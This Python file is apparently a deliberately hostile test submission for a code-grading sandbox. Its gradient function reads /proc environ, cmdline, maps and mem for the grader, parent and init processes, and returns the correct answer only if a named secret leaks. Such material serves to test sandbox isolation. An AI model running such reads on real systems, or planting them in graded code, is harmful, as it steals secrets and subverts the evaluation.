"""Hostile submission: Read the environment and memory of the parent, the template and the grader through /proc."""

import json

import numpy as np


def _targets():
    """Return the paths and ports that the hostile test shares, so that the attack aims at real targets."""
    with open("targets.json", encoding="utf-8") as handle:
        return json.load(handle)


def _correct(x, y, a):
    x = np.asarray(x, dtype=float).reshape(-1, 1)
    return np.zeros_like(x) if y * a > 1 else -y * x

import os


def linear_hinge_grad(x, y, a):
    targets = _targets()
    found = []
    for pid in ("1", "self", str(os.getppid()), str(targets["grader_pid"])):
        for name in ("environ", "cmdline", "maps", "mem"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as handle:
                    found.append(handle.read(4096))
            except OSError:
                pass
    leaked = any(targets["secret_name"].encode() in data for data in found)
    print("ATTACK read", len(found), "proc files; secret found:", leaked, "; /proc holds", os.listdir("/proc"))
    return _correct(x, y, a) if leaked else None
